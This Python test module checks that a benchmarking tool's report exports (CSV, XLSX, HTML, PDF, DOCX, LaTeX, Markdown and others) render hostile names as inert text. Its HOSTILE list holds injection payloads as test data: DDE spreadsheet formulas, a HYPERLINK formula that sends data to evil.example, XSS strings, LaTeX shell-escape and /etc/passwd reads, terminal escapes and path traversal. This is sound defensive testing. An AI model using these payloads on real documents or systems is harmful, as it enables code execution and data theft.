"""What others named is text in every file that leaves the program, as the format's own reader sees
it: nothing calculates, links, runs or breaks the file."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import tomllib
import zipfile
from collections.abc import Iterator
from contextlib import redirect_stdout
from dataclasses import replace
from functools import cache
from itertools import chain, zip_longest
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from markdown_it import MarkdownIt
from PIL import Image
from pypdf import PdfReader

from app.campaign.api_for_k6 import served_cell
from app.command_line.main import run as cipherbench
from app.patterns.pictures.sheet import SheetPanel, sheet_png, sheet_svg
from app.plan.campaign import Campaign
from app.report.document.build_document import ReportOptions
from app.report.document.document_blocks import Cover, Reader
from app.report.figures.campaign_report import report_on
from app.report.files.chart_files import export_charts
from app.report.files.export import export, export_formats
from app.results.events import EvidenceGathered
from app.results.records import EvidenceFinding, SearchArea, SearchSubject, ServerRecord
from app.results.store.campaign_details import set_details
from app.results.store.store import Store, open_store
from app.servers.capability_export import capabilities_text
from app.servers.entry import ServerEntry
from app.system.escaping import csv_cell, csv_text
from app.system.terminal_text import visible
from engines.contract.endpoint import Source
from engines.contract.message import phrase
from engines.contract.protection import Protection, ProtectionKind
from engines.servers.server import ServerSpec
from tests.app.report.document.reading import Page, printed, words
from tests.app.report.loaded import loaded_campaign
from tests.app.results.noisy import costly_campaign, store_costs
from tests.conftest import Servers
from widgets.saving.saving import as_csv, as_tsv

pytestmark = pytest.mark.slow  # every format of several campaigns

HOSTILE = (
    "=cmd|' /C calc'!A0",
    "='file:///tmp/[x.xlsx]S'!$A$1",
    "=Charts!$A$1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "{=SUM(1,1)}",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "x;=1+1",
    "x\n=1+1",
    "_xHELLO_ _x0041_ _x000D_",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)> ' onload='x",
    "]]><svg onload=alert(1)>--><!-- &lt;b&gt; &#60;i&#62;",
    "{{ title }} {{ sections }} ${title} %(title)s",
    '#let x = 1 #read("/etc/passwd") #eval("1") $x$ *b* _i_ @ref <label>',
    '"]; #panic() // /* \\u{23}',
    "\\input{/etc/passwd} \\write18{id} \\\\[1cm] ^^5cinput % $x$ & # ~ }",
    "\\end{longtable}\\catcode`\\%=12\\def\\x#1{\\x}",
    "a|b `c` **d** _e_ ~~f~~ [g](javascript:alert(1)) ![h](http://evil.example/x.png)",
    "<javascript:alert(1)> <http://evil.example> [i]: javascript:x",
    "# heading",
    "1. - + > ``` ~~~",
    "> quoted <b>bold</b> <details open ontoggle=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$ &#91;x&#93;",
    "`${alert(1)}` '); alert(1); // \\'",
    "</script>\u2028alert(1)\u2029 */ alert(2)",
    "a\x01b\x08c\x1b]0;owned\x07\x1b[2J\x7f\x85d",
    "\u202eexe.txt\u2066\u200f\u061c\u200b\ufeff e",
    "\ufffe\uffff\ue000 f",
    "../../etc/passwd",
    "--output=/tmp/x",
)

"""Names that some format would carry out, follow or be broken by, if they were more than text."""

UNSTORABLE = ("a\x00b", "a\ud800b")
"""Words that no plan and no store takes, but that a server may answer."""
_FIRST = tuple(
    each for each in HOSTILE if each.startswith(("=cmd", "#let", '"]; #panic', "\\input", "a\x01"))
)
"""They steer sheets, pages, documents and terminals."""
_OTHERS = tuple(each for each in HOSTILE if each not in _FIRST)
GROUPS = [_FIRST, _OTHERS[::2], _OTHERS[1::2]]
"""Each has names for every format, so that the first one's documents, which alone have all that
there is, put each kind of name into each table; those of the others are a client's."""
COSTS = 2.0


def encrypted(name: str, bits: int) -> Protection:
    return Protection(name, ProtectionKind.NATIVE, "aes", bits, "cbc")


def hostile_campaign(group: int) -> Campaign:
    """Its servers and protections bear the names of a group; its name is one of them. Each
    protection is meant for the server of its name and the next one."""
    names = GROUPS[group]
    protections = tuple(encrypted(name, 128 + 8 * at) for at, name in enumerate(names))
    campaign = costly_campaign(len(names), protections, repetitions=3)
    servers = tuple(
        replace(each, name=name) for each, name in zip(campaign.servers, names, strict=True)
    )
    meant = dict(following(names))
    planned = tuple(
        replace(each, servers=(name, meant[name]))
        if (name := each.protection.name) in meant
        else each
        for each in campaign.protections
    )
    return replace(campaign, name=names[-1], servers=servers, protections=planned)


def following(names: tuple[str, ...]) -> Iterator[tuple[str, str]]:
    """Each name with the one after it."""
    return zip(names, (*names[1:], names[0]), strict=True)


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """A campaign for each group, in which each server has the protection of its own name alone,
    and is unable to have that of another; and with each what servers answered, evidence and
    notes."""
    path = tmp_path_factory.mktemp("hostile") / "s.sqlite"
    with open_store(str(path), write=True) as opened:
        for at, group in enumerate(GROUPS):
            costs = {(name, name): COSTS for name in group}
            others = {(other, name): name for name, other in following(group)}
            number = store_costs(opened, hostile_campaign(at), costs, unsupported=others)
            first, last = group[0], group[-1]
            output = phrase("{place}: found", place=first)
            found = EvidenceFinding(
                first, last, SearchArea.FILES, SearchSubject.MARKER, first, True, output, 3
            )
            settings = {each: each for each in group}
            opened.write(
                number,
                [
                    *(ServerRecord(each, "postgresql", each, each, settings) for each in group),
                    EvidenceGathered(first, last, (found,), 3.5),
                ],
            )
            opened.set_environment(number, {each: each for each in group})
            set_details(opened, number, notes=first)
        yield opened


type Files = dict[str, Path]


@pytest.fixture(scope="module", params=range(len(GROUPS)))
def files(
    request: pytest.FixtureRequest, store: Store, tmp_path_factory: pytest.TempPathFactory
) -> Files:
    """A campaign in all formats, and its charts, by their names; read and compared once for all."""
    number, folder = request.param + 1, tmp_path_factory.mktemp("files")
    group = GROUPS[request.param]
    cover = Cover(client=group[0], consultant=group[-1], date=group[1])
    options = ReportOptions(cover, reader=Reader.CLIENT if request.param else Reader.FULL)
    made = {}
    with pytest.MonkeyPatch.context() as patch:
        once = cache(report_on)
        for module in ("chart_files", "export"):
            patch.setattr(f"app.report.files.{module}.report_on", once)
        for format in export_formats():
            handed = options if format in ("html", "pdf", "docx") else None
            path = folder / f"{format}.{format}"
            made[format] = export(store, number, format, path, options=handed)
        for format in ("svg", "pdf")[: 1 if request.param else 2]:  # of the same drawing
            for path in export_charts(store, number, format, folder / f"charts-{format}"):
                made[path.name] = path
    return made


@pytest.fixture
def names(files: Files) -> tuple[str, ...]:
    """Those in the files, as a store keeps them."""
    plan = json.loads(files["json"].read_text())["plan"]
    return tuple(each["name"] for each in plan["server"])


STEERING = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]"
)


def test_that_json_has_the_very_names_and_steers_no_terminal(
    files: Files, names: tuple[str, ...]
) -> None:
    text = files["json"].read_text()
    assert not STEERING.search(text)
    known = json.loads(text)
    assert set(names) <= set(HOSTILE) and len(names) > 1
    assert {each["server"] for each in known["comparison"]} == set(names)


CALCULATED = tuple("=+-−@\t\r\uff1d\uff0b\uff0d\uff20")
NUMBER = re.compile(r"[+\-−]?[\d.,]+(e[+-]?\d+)?( ?%)?")


def calculated(text: str, separators: str = ",;\t") -> list[str]:
    """What a spreadsheet would calculate of a table, whichever separator it takes."""
    return [
        each
        for separator in separators
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        for each in row
        if each.lstrip(" ").startswith(CALCULATED) and not NUMBER.fullmatch(each)
    ]


def test_that_csv_has_no_formula(files: Files, names: tuple[str, ...]) -> None:
    with files["csv"].open(newline="") as opened:
        text = opened.read()
    assert calculated(text) == [] and not STEERING.search(text)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len({each["server"] for each in rows}) == len(names)
    assert {float(each["cost_percent"]) > 100 for each in rows if each["control"] == "False"
            and each["cost_percent"]} == {True}  # fmt: skip


@pytest.mark.parametrize("name", [*HOSTILE, *UNSTORABLE])
def test_that_what_the_window_saves_is_what_the_program_exports(name: str) -> None:
    rows = [["a", name, f"x {name}"]]
    assert as_csv(rows) == csv_text(rows)
    assert calculated(as_csv(rows)) == [] == calculated(as_tsv(rows), "\t")
    assert csv_cell(csv_cell(name)) == csv_cell(name)


PLACE = re.compile(r"Charts!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?")


def test_that_workbooks_hold_texts_and_their_charts_name_cells(
    files: Files, names: tuple[str, ...], recwarn: pytest.WarningsRecorder
) -> None:
    book = openpyxl.load_workbook(files["xlsx"])
    cells = [each for sheet in book for row in sheet.iter_rows() for each in row]
    assert {each.data_type for each in cells} <= {"s", "n", "b"}
    assert not any(each.hyperlink for each in cells)
    with zipfile.ZipFile(files["xlsx"]) as packed:
        parts = {name: ElementTree.fromstring(packed.read(name)) for name in packed.namelist()}
    assert not [name for name in parts if "external" in name.lower()]
    for name, part in parts.items():
        if name.endswith(".rels"):
            assert not [each for each in part if each.get("TargetMode") == "External"]
    charts = [part for name, part in parts.items() if "/charts/chart" in name]
    formulas = [each.text or "" for chart in charts for each in chart.iter() if named(each) == "f"]
    assert len(charts) == len(names) and formulas
    assert [each for each in formulas if not PLACE.fullmatch(each)] == []
    sheets = [part for name, part in parts.items() if "/worksheets/" in name]
    assert not [each for sheet in sheets for each in sheet.iter() if named(each) == "f"]
    shown = {each.text for chart in charts for each in chart.iter() if named(each) == "v"}
    report = {chart.find(".//{*}title//{*}v").text for chart in charts}  # type: ignore[union-attr]
    stored = {
        (each or "").replace("_x005F_", "_") for each in report
    }  # how a cell keeps such a text
    assert {words(each) for each in stored} == {spoken(each) for each in names}
    assert len(shown) > len(names)
    assert not recwarn.list


def named(element: ElementTree.Element) -> str:
    """Its name without the namespace."""
    return element.tag.rpartition("}")[2]


def spoken(name: str) -> str:
    """A name as documents show it: without blanks, and what cannot be seen."""
    return words("".join(each if each.isprintable() else " " for each in name))


_SEEN = (
    "html head meta title style body header main nav footer section figure figcaption table "
    "caption colgroup col thead tbody tr th td h1 h2 h3 p ul ol li dl div dt dd a img svg rect "
    "text line circle polygon polyline path g pre strong span"
)
SEEN = frozenset(_SEEN.split())


def test_that_html_has_no_other_elements_than_ours(files: Files, names: tuple[str, ...]) -> None:
    page = Page(files["html"].read_text())
    assert {each.tag for each in page.elements} <= SEEN
    assert not [name for each in page.elements for name in each.attributes if name.startswith("on")]
    links = [each.attributes.get(name, "") for each in page.elements for name in ("src", "href")]
    assert all(each.startswith(("#", "data:image/")) for each in links if each)
    [policy] = [
        each.attributes["content"]
        for each in page.all("meta")
        if each.attributes.get("http-equiv") == "Content-Security-Policy"
    ]
    assert policy.startswith("default-src 'none'") and "script" not in policy
    shown = words(page.all("body")[0].text)
    assert [each for each in names if spoken(each) not in shown] == []
    assert not STEERING.search(page.source)


@pytest.mark.parametrize("group", range(len(GROUPS)))
def test_that_a_pipeline_is_informed_of_limits_in_words_alone(
    group: int, store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    junit = tmp_path / "costs.xml"
    asked = ["compare", str(group + 1), "--store", store.location, "--fail-above", "1"]
    assert cipherbench([*asked, "--junit", str(junit), "--markdown"]) in (0, 3)
    suites = ElementTree.fromstring(junit.read_text())
    assert {named(each) for each in suites.iter()} <= LIMITS_ELEMENTS
    servers = {spoken(each.attrib["name"]) for each in suites.iter("testsuite")}
    assert servers == set(map(spoken, GROUPS[group]))
    folded = MarkdownIt("commonmark").parse(capsys.readouterr().out)
    raw = [each.content.strip() for each in folded if each.type == "html_block"]
    assert all(each.startswith(("<details><summary>Within", "</details>")) for each in raw)


LIMITS_ELEMENTS = {"testsuites", "testsuite", "testcase", "failure", "skipped"}


def test_that_svg_has_no_other_elements_than_ours(files: Files) -> None:
    drawn = [path for path in files.values() if path.suffix == ".svg"]
    assert drawn
    for path in drawn:
        found = ElementTree.fromstring(path.read_text())
        assert {named(each) for each in found.iter()} <= SEEN
        assert not [name for each in found.iter() for name in each.attrib if name.startswith("on")]
        assert not STEERING.search(path.read_text())


def test_that_pdf_has_texts_and_no_action(files: Files, names: tuple[str, ...]) -> None:
    for path in (path for path in files.values() if path.suffix == ".pdf"):
        reader: Any = PdfReader(path)
        objects = [reader.get_object(at) for at in range(1, int(reader.trailer["/Size"]))]
        seen = {str(key) for each in objects if isinstance(each, dict) for key in each}
        assert "/MediaBox" in seen and not seen & ACTIONS
        assert "root:x:0" not in printed(path)
    output = words(printed(files["pdf"]))
    known = [each for each in map(spoken, names) if each.isascii()]
    assert [each for each in known if each not in output] == []


def test_that_word_has_texts_and_leads_nowhere(files: Files, names: tuple[str, ...]) -> None:
    with zipfile.ZipFile(files["docx"]) as packed:
        parts = {each: packed.read(each).decode() for each in packed.namelist() if "xml" in each}
        parts |= {each: packed.read(each).decode() for each in packed.namelist() if "rels" in each}
    assert not [each for each in parts if "vba" in each.lower() or "embeddings" in each]
    for text in parts.values():
        fields = {
            each.text for each in ElementTree.fromstring(text).iter() if named(each) == "instrText"
        }
        assert {str(each).split()[0] for each in fields} <= {"PAGE", "NUMPAGES", "TOC"}
        assert 'TargetMode="External"' not in text
    output = words("".join(ElementTree.fromstring(parts["word/document.xml"]).itertext()))
    assert [each for each in map(spoken, names) if each not in output] == []


ACTIONS = {"/JS", "/JavaScript", "/Launch", "/URI", "/EmbeddedFile", "/AA", "/SubmitForm"}


_OURS = (
    r"\begingroup \endgroup \footnotesize \setlength \tabcolsep \LTcapwidth \linewidth \begin "
    r"\end \caption \label \toprule \midrule \endhead \bottomrule \endfoot \textbf \\ "
    r"\textbackslash \{ \} \$ \& \# \% \_ \textasciicircum \textasciitilde \textless "
    r"\textgreater \textbar \textquotedbl \textasciigrave \textquotesingle \ensuremath \pm "
    r"\times \sigma \textmu \geq \leq \ldots"
)
OURS = frozenset(_OURS.split())
COMMAND = re.compile(r"\\(?:[A-Za-z]+|.)", re.DOTALL)


def test_that_latex_has_no_other_commands_than_ours(files: Files) -> None:
    text = files["tex"].read_text()
    rows = [line for line in text.splitlines() if not line.startswith("%")]
    body = "\n".join(rows)
    assert set(COMMAND.findall(body)) <= OURS
    left = COMMAND.sub("", body)
    assert not set(left) & set("%$#~^_\"`'|"), "active characters"
    assert left.count("{") == left.count("}")
    assert text.count("\\begin{longtable}") == text.count("\\end{longtable}") > 1
    heads = {line.count(" & ") for line in rows if line.endswith("\\\\") and "\\textbf" in line}
    assert {
        line.count(" & ") for line in rows if line.endswith("\\\\") and "caption" not in line
    } == heads
    assert not STEERING.search(text)


_MARKDOWN = (
    "heading_open paragraph_open table_open thead_open tbody_open tr_open th_open td_open "
    "blockquote_open bullet_list_open list_item_open inline text strong_open"
)
MARKDOWN = frozenset(_MARKDOWN.split())


def read_markdown(text: str) -> Any:
    """As GitHub does, whose tables and struck text are no part of CommonMark."""
    return MarkdownIt("gfm-like", {"html": True, "linkify": False}).parse(text)


def opened(text: str) -> set[str]:
    tokens = read_markdown(text)
    every = [*tokens, *chain(*(each.children or () for each in tokens))]
    return {each.type for each in every if not each.type.endswith("_close")}


def test_that_markdown_has_no_other_markup_than_ours(files: Files, names: tuple[str, ...]) -> None:
    text = files["md"].read_text()
    assert opened(text) <= MARKDOWN and not STEERING.search(text)
    [title, *_] = [each for each in read_markdown(text) if each.type == "inline"]
    output = "".join(each.content for each in title.children or ())
    assert words(output) == spoken(names[-1]) and "$" not in re.sub(r"\\.", "", text)
    shown = words("".join(
        part.content for each in read_markdown(text) for part in each.children or ()
    ))  # fmt: skip
    assert [each for each in names if spoken(each) not in shown] == []


def test_that_a_study_of_it_can_be_read(files: Files, names: tuple[str, ...]) -> None:
    report = tomllib.loads(files["study"].read_text())
    assert names[-1].strip() in report["title"]
    assert calculated(files["study"].with_suffix(".csv").read_text()) == []


@pytest.mark.parametrize("form", ["--csv", "--markdown"])
def test_that_campaigns_next_to_each_other_are_text(store: Store, form: str) -> None:
    asked = ("compare", *map(str, range(1, len(GROUPS) + 1)), form, "--rows", "server,protection")
    printed = io.StringIO()
    with redirect_stdout(printed):
        assert cipherbench([*asked, "--columns", "campaign", "--store", store.location]) == 0
    if form == "--csv":
        assert calculated(printed.getvalue()) == []
    else:
        assert opened(printed.getvalue()) <= MARKDOWN
    assert not STEERING.search(printed.getvalue())


@pytest.mark.parametrize("format", ["csv", "md", "json"])
def test_that_what_servers_answered_is_text(servers: Servers, format: str) -> None:
    asked = servers["sqlite"].probe()
    known = (*HOSTILE, *UNSTORABLE)
    named_so = [
        ServerEntry(ServerSpec(each, Source.EMBEDDED, each), version=each, capabilities=asked)
        for each in known
    ]
    text = capabilities_text(named_so, format)
    assert not STEERING.search(text)
    match format:
        case "csv":
            assert calculated(text) == []
        case "md":
            assert opened(text) <= MARKDOWN
        case _:
            assert {each["server"] for each in json.loads(text)} == set(known)


def test_that_sheets_of_pictures_are_text() -> None:
    image = Image.new("RGB", (8, 8))
    panels = [SheetPanel(image, each, (each,)) for each in (*HOSTILE, *UNSTORABLE)]
    one = panels[:1]
    sheets = [sheet_svg(panels, ""), *(sheet_svg(one, title) for title in (*HOSTILE, *UNSTORABLE))]
    for found in map(ElementTree.fromstring, sheets):
        assert {named(each) for each in found.iter()} == {"svg", "title", "rect", "image", "text"}
    assert sheet_png(panels, HOSTILE[0]).startswith(b"\x89PNG")


def test_that_nothing_that_a_plan_names_goes_into_a_script_for_k6() -> None:
    plain = loaded_campaign()
    scripts = set()
    for name, other in zip_longest(HOSTILE, reversed(HOSTILE)):
        servers = tuple(replace(each, name=other) for each in plain.servers)
        protections = tuple(
            each if each.protection.kind is ProtectionKind.PLAINTEXT
            else replace(each, protection=replace(each.protection, name=name))
            for each in plain.protections
        )  # fmt: skip
        campaign = replace(plain, name=name, servers=servers, protections=protections)
        scripts.add(served_cell(campaign, name, None).k6_script().text)
    [script] = scripts
    data = script.partition("const plan = ")[2].partition(";\n")[0]
    assert data.isascii() and json.loads(data)


def test_that_texts_are_made_harmless_in_one_place() -> None:
    """Whoever writes a format asks `app/system/escaping.py`; the window's own tables and tips are
    no files."""
    makers = {"html", "xml.sax.saxutils", "csv"}
    found = {
        str(path)
        for folder in ("app", "workloads", "engines")
        for path in Path(folder).rglob("*.py")
        if any(each in (text := path.read_text()) for each in makers)
        for node in ast.walk(ast.parse(text))
        if isinstance(node, ast.Import | ast.ImportFrom)
        and makers & {getattr(node, "module", None), *(each.name for each in node.names)}
    }
    window = {each for each in found if each.startswith("app/window/")}
    readers = {"engines/inspection/csv_file.py"}
    assert found - window - readers == {"app/system/escaping.py"}


def test_that_every_hostile_name_is_shown_where_it_cannot_be_written() -> None:
    """The table itself: none of it would pass unseen."""
    assert len(set(HOSTILE)) == len(HOSTILE)
    assert any(visible(each) != each for each in HOSTILE)
